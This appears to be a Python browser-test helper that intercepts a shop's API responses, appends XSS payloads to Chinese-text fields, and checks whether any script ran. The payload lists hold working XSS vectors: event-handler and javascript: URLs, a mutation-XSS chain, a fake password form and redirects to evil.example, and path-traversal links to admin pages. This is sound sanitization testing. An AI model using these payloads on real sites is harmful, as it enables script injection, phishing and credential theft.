"""What a hostile author would write, put into every answer of a shop; and what must not become of it in a browser."""

import json
import re
from urllib.parse import urlsplit

import requests

ELSEWHERE = "https://evil.example"
WORDS = '"><img src=/words id=struck onerror=struck()>{{1+1}}'
MARKUP = [
    f'<img src="{ELSEWHERE}/seen.png"><p style="background: url({ELSEWHERE}/seen.png)">好</p>',
    "<script>struck()</script>",
    "<img src=/markup id=struck onerror=struck()>",
    "<svg onload=struck()><animate onbegin=struck() attributeName=x></svg>",
    '<a id=struck href="javascript:struck()">领取红包</a>',
    '<iframe src="javascript:parent.struck()"></iframe>',
    '<iframe srcdoc="<script>parent.struck()</script>"></iframe>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=struck()&gt;">',
    "<form action=https://evil.example><input name=password><button>登录</button></form>",
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
    f"<style>@import '{ELSEWHERE}/seen.css'; .mp-view {{ display: none }}</style>",
    f"<link rel=stylesheet href={ELSEWHERE}/seen.css>",
    f'<video src="{ELSEWHERE}/seen.mp4" poster="{ELSEWHERE}/seen.png" onerror=struck()></video>',
]
LINKS = [
    {"kind": kind, "value": value}
    for kind, value in [
        ("page", "javascript:struck()"),
        ("page", f"//{ELSEWHERE.partition('//')[2]}"),
        ("page", ELSEWHERE),
        ("page", "data:text/html,<script>parent.struck()</script>"),
        ("page", "/../admin/logout/"),
        ("page", "/pages/home/home/../../../../admin/"),
        ("product", "../../../admin/?x=javascript:struck()#"),
        ("search", WORDS),
        ("category", "#/../javascript:struck()"),
    ]
]
NOTES = """
window.notes = { ran: false, refused: [] }
window.struck = () => { window.notes.ran = true }
addEventListener('securitypolicyviolation', (event) => window.notes.refused.push(event.effectiveDirective))
"""
JUDGE = """
() => {
  const forbidden = ['#struck, iframe, object, embed, form, base, math, meta[http-equiv=refresh], link[href*=evil]',
    'script:not([src]):not([type="application/json"])']
  const found = [...document.querySelectorAll(forbidden.join())]
  const runs = ({ name, value }) => /^on(error|load|begin|click)$/.test(name) ||
    (/^(href|src|action|poster)$/.test(name) && /^\\s*(javascript|data:text)/i.test(value))
  for (const each of document.querySelectorAll('*')) if ([...each.attributes].some(runs)) found.push(each)
  const told = found.map((each) => each.outerHTML.slice(0, 200))
  if (window.notes.ran) told.push('a script ran')
  return told
}
"""
_CHINESE = re.compile("[一-鿿]")


def poisoned(value):
    """The same answer with words that try to be markup, and markup that tries to run."""
    if isinstance(value, dict):
        return {name: poisoned(each) for name, each in value.items()}
    if isinstance(value, list):
        return [poisoned(each) for each in value]
    if not isinstance(value, str) or not _CHINESE.search(value):
        return value
    return value + "".join(MARKUP) if value.lstrip().startswith("<") else value + WORDS


def poison(route):
    """Answer what the shop answers, poisoned."""
    asked, where = route.request, urlsplit(route.request.url)
    address = where._replace(netloc=f"127.0.0.1:{where.port}").geturl()
    headers = {**asked.headers, "Host": where.netloc}
    said = requests.request(asked.method, address, data=asked.post_data_buffer, headers=headers, timeout=30)
    is_json = "json" in said.headers.get("Content-Type", "")
    route.fulfill(
        status=said.status_code,
        headers={name: said.headers[name] for name in ("Content-Type", "ETag") if name in said.headers},
        body=json.dumps(poisoned(said.json()), ensure_ascii=False) if is_json else said.content,
    )
